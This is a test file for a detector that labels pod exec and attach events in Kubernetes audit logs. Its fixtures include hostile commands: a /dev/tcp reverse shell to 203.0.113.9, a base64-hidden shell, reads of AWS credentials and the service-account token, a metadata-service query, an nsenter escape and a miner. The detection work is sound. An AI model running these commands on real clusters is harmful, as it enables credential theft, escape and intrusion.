import { exec } from '../../../lib/detectors/exec.ts';
import { command } from '../requests.ts';
import { testActs } from './verdicts.ts';

const inPod = { resource: 'pods/exec', namespace: 'shop', name: 'cart-0', code: 101 } as const;
const ran = (...words: string[]) => ({ ...inPod, verb: 'create', query: command(...words) });

testActs(exec, {
  hits: [
    ['a command over a websocket, which comes as get', { ...inPod, verb: 'get' }, ['shop']],
    ['a command over SPDY, which comes as create', { ...inPod, verb: 'create' }, ['shop']],
    ['an attachment', { ...inPod, verb: 'create', resource: 'pods/attach' }, ['hands-on: shop']],
    ['a shell', ran('/bin/bash'), ['hands-on: shop']],
    ['a shell of a console in a browser', ran('sh', '-c', 'clear; (bash || ash || sh)'), ['hands-on: shop']],
    ['anything typed into a terminal', { ...ran('psql'), query: new URLSearchParams('command=psql&stdin=true&tty=true') }, ['hands-on: shop']],
    ['a look round', ran('/usr/bin/id'), ['hands-on: shop']],
    ['a script as one command', ran('sh', '-c', 'date'), ['shop']],
    ['a command that hides what it runs', ran('sh', '-c', 'echo aWQ= | base64 -d | sh'), ['shop', 'hidden: shop']],
    ['a refused command as another act', { ...ran('cat', '/root/.aws/credentials'), outcome: 'refused', code: 403 }, ['shop (refused)', 'credentials: shop (refused)']],
    ['a command in the cluster\'s own namespace apart', { ...inPod, verb: 'get', namespace: 'kube-system' }, ['system: kube-system']],
    ['credentials read', ran('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), ['shop', 'credentials: shop']],
    ['the metadata service asked', ran('wget', '-qO-', 'http://169.254.169.254/latest/meta-data/'), ['shop', 'metadata: shop']],
    ['a shell to somewhere else', ran('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'), ['shop', 'remote-shell: shop']],
    ['a way out to the node', ran('nsenter', '--target', '1', '--mount'), ['shop', 'escape: shop']],
    ['a miner', ran('./xmrig'), ['shop', 'miner: shop']],
  ],
  misses: [
    ['a command in a pod that is not there', { ...inPod, verb: 'get', outcome: 'missing', code: 404 }],
    ['the reading of a pod', { ...inPod, verb: 'get', resource: 'pods', name: 'exec' }],
    ['the reading of a pod\'s log', { ...inPod, verb: 'get', resource: 'pods/log' }],
  ],
});
